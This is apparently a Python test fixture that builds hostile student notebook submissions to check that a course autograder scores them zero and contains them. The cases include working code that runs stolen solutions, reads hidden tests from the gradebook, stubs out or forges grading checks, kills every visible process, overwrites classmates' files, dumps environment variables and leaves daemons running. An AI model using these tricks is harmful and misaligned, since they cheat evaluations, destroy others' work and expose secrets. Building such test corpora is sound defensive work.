"""A corpus of hostile submissions, made at run time from a lab's real release.

Each case is the BLANK student notebook (``build.student_version(lab, set())``) with one extra cell,
right after the setup cell, that tries one way to cheat or to harm the class (read the key, patch
the checks, take over the kernel, reach classmates, the grader or the network...). A trustworthy
grader gives every one of them 0 automatic points, names it in the report, and lets nothing it does
reach outside its own kernel. ``MARK`` is written by the cases that leave processes or files behind,
so the tests can look for them.
"""
import copy

import nbformat

from helpers.instructor import build

MARK = "rastro-hostil-7f3a"
#: Where the cases look for the instructor's files (the whole file system, less /usr, /proc and /sys,
#: which hold nothing of the course and would only make the search slow).
PLACES = "['/work', '/root', '/home', '/tmp', '/trabajo', '/curso', '/datos', '/etc', '/opt', '/srv', '/mnt']"

#: name -> (what the student's extra cell does, its code). {mark} is replaced by ``MARK``.
CASES = {
    "leer_clave": ("busca source/ y solutions/ subiendo desde su carpeta y ejecuta las soluciones", """
import json, os, pathlib
for base in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, *map(pathlib.Path, {places})]:
    for nb in list(base.glob('**/source/*/*.ipynb'))[:5] + list(base.glob('**/solutions/*/*.ipynb'))[:5]:
        for cell in json.load(open(nb))['cells']:
            code = ''.join(cell['source'])
            if 'BEGIN SOLUTION' in code or cell['cell_type'] == 'code':
                try:
                    exec(code, globals())
                except Exception:
                    pass
"""),
    "leer_gradebook": ("busca gradebook.db y lee las pruebas ocultas", """
import os, sqlite3
for top in {places}:
    for root, dirs, files in os.walk(top):
        if 'gradebook.db' in files:
            print(sqlite3.connect(os.path.join(root, 'gradebook.db')).execute('select source from grade_cells').fetchall())
"""),
    "checks_vacios": ("sustituye todas las comprobaciones de helpers.checks por funciones vacías", """
import helpers.checks as c
for name in dir(c):
    if name.startswith('check_'):
        setattr(c, name, lambda *a, **k: None)
"""),
    "transformador": ("un transformador de IPython convierte cada celda posterior en `pass`", """
get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])
"""),
    "manejador_excepciones": ("un manejador de IPython silencia todas las excepciones", """
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
"""),
    "helpers_falso": ("escribe un paquete helpers falso en su carpeta y lo importa primero", """
import os, sys
os.makedirs('helpers', exist_ok=True)
open('helpers/__init__.py', 'w').write('def profile():\\n    pass\\n')
open('helpers/checks.py', 'w').write(''.join(f'def {n}(*a, **k):\\n    pass\\n' for n in
    ['check_shape', 'check_close', 'check_equal', 'check_parameter_count', 'check_true']))
sys.path.insert(0, os.getcwd())
for name in [m for m in sys.modules if m == 'helpers' or m.startswith('helpers.')]:
    del sys.modules[name]
import helpers.checks as checks
"""),
    "envenenar_plantilla": ("añade a la configuración de nbgrader de la plantilla un código que da todos los puntos", """
import glob
for path in [p for top in {places} for p in glob.glob(top + '/**/_plantilla/nbgrader_config.py', recursive=True)]:
    open(path, 'a').write('\\nc.Execute.allow_errors = True  # {mark}\\n')
"""),
    "matar_procesos": ("mata todos los procesos que ve, incluido el corrector y los compañeros", """
import os, signal
for pid in os.listdir('/proc'):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
"""),
    "sobrescribir": ("sobrescribe las entregas de los compañeros y la carpeta de descarga", """
import glob, os
for pattern in [top + '/**/entregas/**/*.ipynb' for top in {places}] + ['/proc/*/cmdline']:
    for path in glob.glob(pattern, recursive=True):
        try:
            open(path, 'w').write('{mark}')
        except OSError:
            pass
"""),
    "gradebook_falso": ("añade a cualquier gradebook.db un estudiante con todos los puntos", """
import glob, sqlite3
for path in [p for top in {places} for p in glob.glob(top + '/**/gradebook.db', recursive=True)]:
    con = sqlite3.connect(path)
    con.execute("insert into student (id) values ('{mark}')")
    con.commit()
"""),
    "escribir_biblioteca": ("reescribe helpers/checks.py y los paquetes instalados", """
import os, helpers, torch
for path in (os.path.join(os.path.dirname(helpers.__file__), 'checks.py'), torch.__file__):
    try:
        open(path, 'a').write('\\n# {mark}\\n')
    except OSError as e:
        print('no se pudo:', e)
"""),
    "leer_companeros": ("lee los cuadernos de sus compañeros y los imprime", """
import glob
for path in [p for top in {places} for p in glob.glob(top + '/**/*.ipynb', recursive=True)][:50]:
    print(path, open(path).read()[:200])
"""),
    "entorno": ("imprime las variables de entorno del corrector", """
import os
print(dict(os.environ))
"""),
    "demonio": ("deja un proceso desacoplado que sigue vivo tras la calificación", """
import subprocess, sys
subprocess.Popen([sys.executable, '-c', 'import time\\nwhile True: time.sleep(1)', '{mark}'],
                 start_new_session=True, cwd='/', stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""),
    "copia_stdout": ("deja un proceso desacoplado con la salida del núcleo abierta", """
import subprocess, sys
subprocess.Popen([sys.executable, '-c', 'import time\\nwhile True: time.sleep(1)', '{mark}'],
                 start_new_session=True, stdout=sys.__stdout__, stderr=sys.__stderr__)
"""),
    # Tricks that work inside the kernel without touching the machinery the tripwires inspect: their
    # answers never compute the right values, so only a verdict made outside the kernel is safe from them.
    "ocultar_errores": ("oculta los errores de las pruebas (no los de las trampas) en los mensajes del núcleo", """
ip = get_ipython()
original = ip.kernel.session.send
def send(stream, msg_or_type, content=None, *args, **kwargs):
    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get('header', {}).get('msg_type')
    trap = 'found.append' in str(kwargs.get('parent') or (args[0] if args else ''))  # a tripwire's code
    if not trap and kind == 'error':
        return None
    if not trap and isinstance(content, dict) and content.get('status') == 'error':
        content = {'status': 'ok', 'execution_count': content.get('execution_count'), 'user_expressions': {},
                   'payload': []}
    return original(stream, msg_or_type, content, *args, **kwargs)
send.__module__ = 'jupyter_client.session'
ip.kernel.session.send = send
"""),
    "objetos_mentirosos": ("respuestas que mienten sobre su clase, su forma y su igualdad, y un resultado en la prueba", """
import sys
from torch import nn
class Mentiroso:
    def __init__(self, clase):
        self._clase = clase
    @property
    def __class__(self):
        get_ipython().displayhook(99)  # un execute_result dentro de la celda de prueba
        return self._clase
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __call__(self, *args, **kwargs):
        return self
    def __getattr__(self, name):
        if name == 'shape':
            return tuple(sys._getframe(1).f_locals.get('expected', ()))
        return self
class Numero(int):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
pool, conv, conv1, conv2 = Mentiroso(nn.MaxPool2d), Mentiroso(nn.Conv2d), Mentiroso(nn.Conv2d), Mentiroso(nn.Conv2d)
y_pool = y_conv = feature_map1 = feature_map2 = Mentiroso(object)
alexnet_params, vgg16_params = Numero(1), Numero(2)
"""),
    "ganchos_torch": ("tras cada celda pone respuestas erróneas de la forma justa y hace que torch.allclose acepte todo", """
import torch
torch.allclose = lambda *args, **kwargs: True
torch.Tensor.allclose = lambda *args, **kwargs: True
def ceros(x, k, s=1, padding=0):
    k = k if isinstance(k, int) else k.shape[-1]
    return torch.zeros(x.shape[0], x.shape[1], (x.shape[2] + 2 * padding - k) // s + 1, (x.shape[3] + 2 * padding - k) // s + 1)
def rellenar(*args, **kwargs):
    espacio = get_ipython().user_ns
    espacio['max_pool2d_manual'] = ceros
    espacio['conv2d_manual'] = lambda x, w, b=None, stride=1, padding=0: ceros(x, w, stride, padding)[:, :1].expand(
        -1, w.shape[0], -1, -1)
    espacio['normalize_filters'] = lambda w: torch.zeros_like(w)
rellenar.__module__ = 'IPython.core.events'
get_ipython().events.register('post_run_cell', rellenar)
"""),
    "falsificar_registros": ("un objeto que la prueba toca cambia el registrador por uno que da valor = esperado", """
import json, sys, torch
def falso(kind, value, expected, what, hint, own_code=False, **options):
    checks = sys.modules['helpers.checks']
    record = {'site': checks._current_site, 'kind': kind, 'value': expected if expected is not None else value,
              'expected': expected, 'what': what, 'hint': hint, 'own_code': True, **options}
    from IPython.display import publish_display_data
    publish_display_data({checks.RECORD_MIME: json.dumps(record)})
class Capa:
    @property
    def weight(self):
        sys.modules['helpers.checks']._record = falso
        return torch.zeros(7, 3, 5, 5)
    def __call__(self, x):
        return x
conv1 = conv2 = Capa()
feature_map1, feature_map2 = torch.zeros(1, 7, 15, 15), torch.zeros(1, 2, 13, 13)
"""),
    "red": ("pasa al perfil full y descarga de internet", """
import os, socket, urllib.request
os.environ.pop('NBGRADER_EXECUTION', None)
os.environ['COURSE_PROFILE'] = 'full'
for target in ('https://download.pytorch.org/models/vgg16-397923af.pth', 'http://127.0.0.1:22/'):
    try:
        urllib.request.urlopen(target, timeout=3)
        print('RED ALCANZADA', target)
    except Exception as e:
        print('sin red:', type(e).__name__)
"""),
}


def _first_code_after_setup(nb) -> int:
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "setup") + 1


def hostile(lab: str) -> dict:
    """The corpus: file name -> (notebook, description). Every case starts from the blank notebook."""
    blank = build.student_version(lab, set())
    cases = {}
    for name, (what, code) in CASES.items():
        nb = copy.deepcopy(blank)
        nb.cells.insert(_first_code_after_setup(nb), nbformat.v4.new_code_cell(code.replace("{mark}", MARK).replace("{places}", PLACES).strip()))
        cases[f"{name}.ipynb"] = (nb, what)
    return cases
